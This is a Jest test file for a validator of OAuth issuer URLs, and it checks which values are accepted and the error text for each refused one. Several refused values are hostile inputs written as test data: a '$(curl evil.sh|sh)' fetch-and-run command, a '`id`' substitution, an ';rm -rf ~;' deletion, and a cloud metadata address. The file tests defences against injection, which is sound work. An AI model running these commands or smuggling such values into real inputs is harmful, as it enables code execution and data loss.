import { issuerUrlProblem } from './issuerUrl';

describe('issuerUrlProblem', () => {
  it('M2: accepts https issuers, and http only on 127.0.0.1 or localhost', () => {
    for (const ok of [
      'https://keycloak.example.com/realms/maas',
      'https://login.example.com/0b5d2f4e-1c3a/v2.0',
      'https://dev-123.okta.com/oauth2/default',
      'https://tenant.auth0.com/',
      'http://127.0.0.1:43121',
      'http://localhost:8080/realms/maas',
    ]) {
      expect([ok, issuerUrlProblem(ok)]).toEqual([ok, undefined]);
    }
  });

  it.each([
    [
      '',
      'is empty; give the issuer\'s URL, such as "https://keycloak.example.com/realms/maas"',
    ],
    [
      'keycloak',
      'is not a URL; give the issuer\'s URL, such as "https://keycloak.example.com/realms/maas"',
    ],
    ['ftp://sso.example.com', 'uses ftp; an issuer URL uses https'],
    [
      'http://sso.example.com',
      'uses http; an issuer URL uses https (http only on 127.0.0.1 or localhost, for a test bed)',
    ],
    [
      'http://169.254.169.254/latest',
      'uses http; an issuer URL uses https (http only on 127.0.0.1 or localhost, for a test bed)',
    ],
    [
      'https://user:pw@sso.example.com',
      'carries a user name or password; an issuer URL has none',
    ],
    [
      'https://sso.example.com/$(curl evil.sh|sh)',
      'has characters an issuer URL cannot have ("$", "(", " ", "|", ")"); use letters, digits and - . _ ~ / only, no query or fragment',
    ],
    [
      'https://sso.example.com/`id`',
      'has characters an issuer URL cannot have ("`"); use letters, digits and - . _ ~ / only, no query or fragment',
    ],
    [
      "https://sso.example.com/';rm -rf ~;'",
      'has characters an issuer URL cannot have ("\'", ";", " "); use letters, digits and - . _ ~ / only, no query or fragment',
    ],
    [
      'https://sso.example.com/realms?x=1',
      'has characters an issuer URL cannot have ("?", "="); use letters, digits and - . _ ~ / only, no query or fragment',
    ],
    [
      'https://sso.example.com/a#b',
      'has characters an issuer URL cannot have ("#"); use letters, digits and - . _ ~ / only, no query or fragment',
    ],
    [
      'https://sso.example.com/a\nb',
      'has characters an issuer URL cannot have ("\\n"); use letters, digits and - . _ ~ / only, no query or fragment',
    ],
    [
      'https://-sso.example.com',
      'is not a plain issuer URL (scheme, host, optional port and path), such as "https://keycloak.example.com/realms/maas"',
    ],
  ])('M2: refuses %j, saying why', (value, problem) => {
    expect(issuerUrlProblem(value)).toBe(problem);
  });
});
